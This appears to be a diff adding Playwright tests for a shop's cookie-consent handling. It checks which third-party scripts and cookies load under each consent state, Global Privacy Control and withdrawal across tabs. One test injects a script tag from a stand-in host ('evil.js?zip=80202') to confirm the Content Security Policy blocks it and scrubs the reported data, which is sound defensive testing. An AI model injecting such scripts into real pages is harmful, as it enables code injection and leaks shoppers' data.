@@ -1,0 +1,201 @@
+import {randomUUID} from 'node:crypto';
+import type {FrameLocator, Page} from '@playwright/test';
+import {PRODUCTS} from './support/journey';
+import {expect, test} from './support/test';
+import {
+  ALL_CONSENT,
+  allowedParties,
+  choose,
+  expectAnswered,
+  NO_CONSENT,
+  watchThirdParties,
+  type ChosenConsent,
+} from './support/third-parties';
+
+/* Scripts of third parties don't wait for pictures. */
+const SETTLE_MS = 400;
+
+const PAGES = [
+  {path: PRODUCTS.dry.path, page: 'product detail'},
+  {path: '/products/dog', page: 'category list'},
+  {path: '/search?search=salmon', page: 'search results'},
+  {path: '/cart', page: 'cart'},
+  {path: '/faq', page: null},
+];
+
+const STATES: ChosenConsent[] = [
+  NO_CONSENT,
+  {functional: true, advertising: false},
+  {functional: false, advertising: true},
+  ALL_CONSENT,
+];
+
+const dialogOf = (page: Page): FrameLocator =>
+  page.getByRole('dialog', {name: 'Privacy choices'}).frameLocator('iframe');
+
+async function openChoices(page: Page): Promise<FrameLocator> {
+  await page.getByRole('contentinfo').getByRole('button', {name: 'Privacy choices'}).click();
+  const dialog = dialogOf(page);
+  await expect(dialog.getByRole('heading', {name: 'Privacy choices'})).toBeVisible();
+  return dialog;
+}
+
+for (const consent of STATES) {
+  const {functional, advertising} = consent;
+  test(`CONS-17 pages talk to the third parties of the registry only: functional ${functional}, advertising ${advertising}`, async ({
+    page,
+    context,
+    shop,
+    sandbox,
+  }) => {
+    await choose(context, shop.consumer, consent);
+    const seen = watchThirdParties(context, sandbox.origin);
+    for (const {path, page: kind} of PAGES) {
+      seen.clear();
+      await page.goto(path);
+      await expectAnswered(page, consent);
+      /* Nothing is wrong with these pages, so there is nothing to report; an empty cart gives nothing. */
+      const idle = ['errorReporting', ...(kind === 'cart' ? ['giving'] : [])];
+      const expected = allowedParties(consent, kind).filter((id) => !idle.includes(id));
+      await expect.poll(seen.list, {message: path}).toEqual(expected);
+      await page.waitForTimeout(SETTLE_MS);
+      expect(seen.list(), path).toEqual(expected);
+    }
+  });
+}
+
+test('CONS-15 Global Privacy Control is a no to advertising, although the shopper once agreed', async ({
+  page,
+  context,
+  shop,
+  sandbox,
+}) => {
+  await context.addInitScript(() =>
+    Object.defineProperty(navigator, 'globalPrivacyControl', {value: true}),
+  );
+  await choose(context, shop.consumer, ALL_CONSENT);
+  const seen = watchThirdParties(context, sandbox.origin);
+  await page.goto(PRODUCTS.dry.path);
+  await expectAnswered(page, {functional: true, advertising: false});
+  await expect.poll(seen.list).toEqual(['giving', 'privacyManager', 'reviews']);
+  await page.waitForTimeout(SETTLE_MS);
+  expect(seen.list()).toEqual(['giving', 'privacyManager', 'reviews']);
+});
+
+test('CONS-16 CONS-09 withdrawing in one tab takes effect in the other and removes what third parties left', async ({
+  page,
+  context,
+  shop,
+}) => {
+  await choose(context, shop.consumer, ALL_CONSENT);
+  await page.goto(PRODUCTS.dry.path);
+  const other = await context.newPage();
+  await other.goto(shop.consumer + PRODUCTS.dry.path);
+  const stateOf = (tab: Page) =>
+    tab.evaluate(() => ({
+      scripts: [...document.scripts]
+        .flatMap(({src}) => /(gtm|klaviyo|bv)\.js/.exec(src)?.[0] ?? [])
+        .sort(),
+      hasDataLayer: 'dataLayer' in window,
+      cookies: document.cookie
+        .split('; ')
+        .map((one) => one.split('=', 1)[0])
+        .filter((name) => name === '_ga' || name === '__kla_id'),
+    }));
+  for (const tab of [page, other]) {
+    await expect
+      .poll(async () => (await stateOf(tab)).scripts)
+      .toEqual(['bv.js', 'gtm.js', 'klaviyo.js']);
+    await expect.poll(async () => (await stateOf(tab)).hasDataLayer).toBe(true);
+  }
+  await page.bringToFront();
+  const dialog = await openChoices(page);
+  await dialog.getByLabel('Advertising').uncheck();
+  await dialog.getByLabel('Functional').uncheck();
+  await dialog.getByRole('button', {name: 'Save choices'}).click();
+  for (const tab of [page, other]) {
+    await expectAnswered(tab, NO_CONSENT);
+    await expect.poll(() => stateOf(tab)).toEqual({scripts: [], hasDataLayer: false, cookies: []});
+    await expect(tab.getByText(/^You cannot see product reviews/)).toBeVisible();
+  }
+});
+
+test('ERR-17 REV-01 REV-02 REV-05 the reviews need functional consent, which the word "here" asks for', async ({
+  page,
+  context,
+  shop,
+  sandbox,
+}) => {
+  await choose(context, shop.consumer, NO_CONSENT);
+  const seen = watchThirdParties(context, sandbox.origin);
+  await page.goto(PRODUCTS.dry.path);
+  const reviews = page.getByRole('region', {name: 'Reviews', exact: true});
+  await expect(
+    reviews.getByText(
+      'You cannot see product reviews because you have declined functional cookies. Please enable them here to access this feature.',
+    ),
+  ).toBeVisible();
+  expect(seen.list()).toEqual(['privacyManager']);
+
+  await reviews.getByRole('button', {name: 'here'}).click();
+  const dialog = dialogOf(page);
+  await dialog.getByLabel('Functional').check();
+  await dialog.getByRole('button', {name: 'Save choices'}).click();
+  await expect(reviews.locator('[data-bv-show=reviews][data-bv-ready=true]')).toBeVisible();
+  await expect(reviews.getByText(/^You cannot see/)).toHaveCount(0);
+});
+
+test('REV-03 REV-04 the widgets come from the configured script, with their type and properties', async ({
+  page,
+  context,
+  shop,
+  sandbox,
+}) => {
+  await choose(context, shop.consumer, {functional: true, advertising: false});
+  await page.goto(PRODUCTS.dry.path);
+  const widgets = page.locator('[data-bv-show][data-bv-ready=true]');
+  await expect(widgets).not.toHaveCount(0);
+  await expect
+    .poll(() =>
+      widgets.evaluateAll((elements) =>
+        [...new Set(elements.map((one) => one.getAttribute('data-bv-show')))].sort(),
+      ),
+    )
+    .toEqual(['inline_rating', 'questions', 'reviews']);
+  const handles = await widgets.evaluateAll((elements) => [
+    ...new Set(elements.map((one) => one.getAttribute('data-bv-product-id'))),
+  ]);
+  expect(handles).toEqual([PRODUCTS.dry.path.split('/').at(-1)]);
+  await expect(page.locator(`script[src="${sandbox.origin}/bazaarvoice/bv.js"]`)).toHaveCount(1);
+});
+
+test('CONS-18 ERR-26 a script from outside the registry is blocked, and the violation is reported', async ({
+  page,
+  context,
+  shop,
+  sandbox,
+  problems,
+}) => {
+  /* Letters only, so that the scrubber leaves it. */
+  const host = `planted-${randomUUID().replace(/[^a-f]/g, '')}.example`;
+  problems.allow(/Content Security Policy/);
+  await choose(context, shop.consumer, {functional: true, advertising: false});
+  await page.goto('/faq');
+  await expectAnswered(page, {functional: true, advertising: false});
+  let wasRequested = false;
+  await context.route(`https://${host}/**`, (route) => {
+    wasRequested = true;
+    return route.abort();
+  });
+  await page.evaluate((address) => {
+    const script = document.createElement('script');
+    script.src = address;
+    document.head.append(script);
+  }, `https://${host}/evil.js?zip=80202`);
+  const reports = async () => (await sandbox.ingested()).filter(({event}) => event.includes(host));
+  await expect.poll(async () => (await reports()).length).toBe(1);
+  const [report] = await reports();
+  expect(report?.event).toBe(`PolicyViolation: script-src-elem https://${host}`);
+  expect(JSON.stringify(report)).not.toContain('80202');
+  expect(wasRequested).toBe(false);
+});
